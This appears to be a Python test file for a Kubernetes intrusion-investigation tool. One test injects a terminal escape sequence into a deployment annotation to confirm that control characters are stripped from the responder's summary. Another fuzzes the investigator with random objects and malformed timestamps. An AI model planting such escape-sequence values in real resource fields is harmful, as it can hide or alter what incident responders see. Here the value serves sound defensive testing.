def test_control_characters_from_objects_never_reach_the_responders_terminal() -> None:
    top = deployment(annotations={CREATED_BY_ANNOTATION: stamp("al\x1b[2Jice")})
    found = inv.investigate(facts(owners=[top], image=foreign(), trust_stamps=True))
    assert "\x1b" not in found.summary
    assert "al?[2Jice" in found.summary


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4)
    ),
    max_leaves=20,
)
KEYS = st.sampled_from(
    [
        "metadata",
        "spec",
        "status",
        "kind",
        "name",
        "namespace",
        "annotations",
        "managedFields",
        "creationTimestamp",
        "deletionTimestamp",
        "replicas",
        "suspend",
        "template",
        "nodeSelector",
        "serviceAccountName",
        "time",
    ]
)
OBJECT = st.recursive(
    st.none() | st.integers() | st.text(max_size=30) | st.just(CREATED),
    lambda inner: st.dictionaries(KEYS, inner, max_size=5) | st.lists(inner, max_size=3),
    max_leaves=25,
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    pod_=OBJECT,
    owners=st.lists(OBJECT, max_size=3),
    crons=st.lists(OBJECT, max_size=2),
    twins=st.lists(OBJECT, max_size=2),
    layer=st.sampled_from(["Exec", "Admission", "Behaviour"]),
    kind=st.sampled_from(["Pod", "PodExecOptions", "Deployment"]),
    entry=st.sampled_from([None, "Init", "Exec", "Unknown"]),
    where=st.sampled_from([None, "Image", "WrittenAfterStart", "Downloaded", "Unknown"]),
    line=st.text(max_size=300),
    when=st.sampled_from([ROOT_AT, "", "not a time", "2026-13-45T99:99:99Z"]),
    trust=st.booleans(),
    extra=JSON,
)
def test_investigate_never_raises_on_junk_facts(
    pod_: Any,
    owners: list[Any],
    crons: list[Any],
    twins: list[Any],
    layer: str,
    kind: str,
    entry: str | None,
    where: str | None,
    line: str,
    when: str,
    trust: bool,
    extra: Any,
) -> None:
    evidence = {
        "entry": entry,
        "executableOrigin": where,
        "downloadedBy": line,
        "lineage": [{"pid": 1, "commandLine": line, "startedAt": when}],
    }
    det = detection(layer=layer, objectKind=kind, evidence=evidence, status=ACTED_STATUS)
    found = inv.investigate(
        Facts(
            detection=det,
            started_at="junk",
            now=str(extra)[:40],
            pod=pod_,
            owners=owners,
            cron_jobs=crons,
            same_digest_pods=twins,
            exec_sessions=[session("bob", when, line.split() or ["sh"])],
            image=ours(labels={line: line}),
            trust_stamps=trust,
            trust_exec_sessions=not trust,
        )
    )
    assert found.summary
    assert found.to_k8s()
